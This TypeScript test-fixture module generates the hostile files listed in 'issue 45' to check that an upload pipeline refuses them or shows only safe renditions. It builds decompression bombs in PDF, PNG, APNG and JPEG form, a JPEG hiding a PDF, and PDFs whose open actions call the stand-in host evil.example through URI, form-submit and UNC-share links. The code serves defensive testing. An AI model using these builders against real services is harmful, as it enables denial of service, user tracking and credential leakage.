import { createDeflate, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { buildPdf, onePagePdf, pdfStream, pngChunk, tinyZip } from './hostile-documents';
import { sampleJpeg, samplePdf, samplePng } from './sample-documents';

/**
 * The files issue 45 found accepted and shown as they came, made on the spot: what makes
 * each hostile is what a viewer does with it, not its size here.
 */

const MiB = 1024 * 1024;
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** `mib` MiB of zeros, deflated in pieces so the test never holds them inflated. */
async function deflatedZeros(mib: number, prefix = Buffer.alloc(0)): Promise<Buffer> {
  const deflate = createDeflate({ level: 9, memLevel: 9 });
  const chunks: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
  const ended = new Promise((resolve) => deflate.on('end', resolve));
  deflate.write(prefix);
  const piece = Buffer.alloc(MiB);
  for (let written = 0; written < mib; written += 1) {
    if (!deflate.write(piece)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await ended;
  return Buffer.concat(chunks);
}

/**
 * Issue 45's `pdf-700-content-streams-2.8GB.pdf`: every page draws a content stream of
 * `mibPerPage` MiB of zeros (whitespace to a PDF reader), about 4 KB each once deflated.
 */
export function contentStreamBomb(pages = 700, mibPerPage = 4): Buffer {
  const contents = deflateSync(Buffer.alloc(mibPerPage * MiB), { level: 9 });
  const first = 3;
  const kids = Array.from({ length: pages }, (_, page) => `${first + page * 2} 0 R`).join(' ');
  const objects: (string | Buffer)[] = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
  ];
  for (let page = 0; page < pages; page += 1) {
    const own = first + page * 2;
    objects.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${own + 1} 0 R >>`,
      pdfStream('/Filter /FlateDecode', contents),
    );
  }
  return buildPdf(objects);
}

/** A PNG whose one ancillary chunk (`zTXt`, `iCCP`, `iTXt`) inflates to `mib` MiB. */
async function pngWithHugeChunk(type: 'zTXt' | 'iCCP' | 'iTXt', mib = 512): Promise<Buffer> {
  const png = samplePng(16, 16, 90);
  const keyword = Buffer.from(
    type === 'iCCP' ? 'icc\0\0' : type === 'zTXt' ? 'Comment\0\0' : 'Comment\0\x01\0\0\0',
    'latin1',
  );
  const chunk = pngChunk(type, Buffer.concat([keyword, await deflatedZeros(mib)]));
  const afterHeader = 8 + 25;
  return Buffer.concat([png.subarray(0, afterHeader), chunk, png.subarray(afterHeader)]);
}

/** An APNG of `frames` 16 × 16 frames (acTL, then fcTL and fdAT for each frame after the first). */
function apngWithFrames(frames = 10_000): Buffer {
  const png = samplePng(16, 16, 30);
  const header = png.subarray(8, 8 + 25);
  const idat = png.subarray(8 + 25, png.length - 12);
  const pixels = deflateSync(Buffer.alloc(17 * 16, 0));
  const control = Buffer.alloc(8);
  control.writeUInt32BE(frames, 0);
  const parts = [PNG_SIGNATURE, header, pngChunk('acTL', control)];
  let sequence = 0;
  const frameControl = () => {
    const data = Buffer.alloc(26);
    data.writeUInt32BE(sequence++, 0);
    data.writeUInt32BE(16, 4);
    data.writeUInt32BE(16, 8);
    data.writeUInt16BE(1, 20);
    data.writeUInt16BE(100, 22);
    return pngChunk('fcTL', data);
  };
  parts.push(frameControl(), idat);
  for (let frame = 1; frame < frames; frame += 1) {
    parts.push(frameControl());
    const sequenced = Buffer.alloc(4);
    sequenced.writeUInt32BE(sequence++, 0);
    parts.push(pngChunk('fdAT', Buffer.concat([sequenced, pixels])));
  }
  parts.push(pngChunk('IEND', Buffer.alloc(0)));
  return Buffer.concat(parts);
}

/** An APNG whose second frame declares 11,585 × 11,585 RGBA and inflates to 512 MiB of zeros. */
async function apngWithHugeFrame(): Promise<Buffer> {
  const png = samplePng(16, 16, 60);
  const header = png.subarray(8, 8 + 25);
  const idat = png.subarray(8 + 25, png.length - 12);
  const control = Buffer.alloc(8);
  control.writeUInt32BE(2, 0);
  const frameControl = (sequence: number, side: number) => {
    const data = Buffer.alloc(26);
    data.writeUInt32BE(sequence, 0);
    data.writeUInt32BE(side, 4);
    data.writeUInt32BE(side, 8);
    data.writeUInt16BE(1, 20);
    data.writeUInt16BE(100, 22);
    return pngChunk('fcTL', data);
  };
  const sequenced = Buffer.alloc(4);
  sequenced.writeUInt32BE(2, 0);
  return Buffer.concat([
    PNG_SIGNATURE,
    header,
    pngChunk('acTL', control),
    frameControl(0, 16),
    idat,
    frameControl(1, 11_585),
    pngChunk('fdAT', Buffer.concat([sequenced, await deflatedZeros(512)])),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A progressive JPEG whose last scan is repeated until it has `scans` scans. */
async function progressiveJpegWithScans(scans = 20_000): Promise<Buffer> {
  const jpeg = await sharp({
    create: { width: 32, height: 32, channels: 3, background: { r: 200, g: 40, b: 90 } },
  })
    .jpeg({ progressive: true })
    .toBuffer();
  const end = jpeg.length - 2;
  const last = jpeg.lastIndexOf(Buffer.from([0xff, 0xda]), end);
  const all = (jpeg.toString('latin1').match(/\xff\xda/g) ?? []).length;
  const repeated = Array.from({ length: Math.max(0, scans - all) }, () => jpeg.subarray(last, end));
  return Buffer.concat([jpeg.subarray(0, end), ...repeated, jpeg.subarray(end)]);
}

/** PDFs with actions the deny-list of decision 049 does not name. */
function actionPdfs(): Record<string, Buffer> {
  const opening = (action: string) => onePagePdf({ catalogExtra: `/OpenAction ${action}` });
  return {
    'open-action-uri.pdf': opening('<< /S /URI /URI (https://evil.example/track) >>'),
    'submit-form.pdf': opening('<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>'),
    'goto-remote-share.pdf': opening(
      '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
    ),
    'import-data.pdf': opening(
      '<< /S /ImportData /F (\\\\\\\\evil.example\\\\share\\\\data.fdf) >>',
    ),
    'html-unknown-filter.pdf': onePagePdf({
      more: [pdfStream('/Filter /Foo', Buffer.from('<html><script>alert(1)</script></html>'))],
    }),
    'zip-in-flate.pdf': onePagePdf({
      more: [pdfStream('/Filter /FlateDecode', deflateSync(tinyZip()))],
    }),
  };
}

/** A real JPEG carrying a whole PDF in a comment (COM) segment. */
function jpegWithPdfInComment(jpeg: Buffer): Buffer {
  const pdf = samplePdf('hidden in a comment');
  const comment = Buffer.alloc(4);
  comment.writeUInt16BE(0xfffe, 0);
  comment.writeUInt16BE(pdf.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), comment, pdf, jpeg.subarray(2)]);
}

/** Every file issue 45 names: each is refused, or accepted only as a safe rendition. */
export async function issue45Corpus(): Promise<Record<string, Buffer>> {
  return {
    'pdf-700-content-streams.pdf': contentStreamBomb(),
    'ztxt-512mb.png': await pngWithHugeChunk('zTXt'),
    'iccp-512mb.png': await pngWithHugeChunk('iCCP'),
    'itxt-512mb.png': await pngWithHugeChunk('iTXt'),
    'apng-10000-frames.png': apngWithFrames(10_000),
    'apng-512mb-frame.png': await apngWithHugeFrame(),
    'progressive-20000-scans.jpg': await progressiveJpegWithScans(20_000),
    'pdf-in-comment.jpg': jpegWithPdfInComment(sampleJpeg()),
    ...actionPdfs(),
  };
}
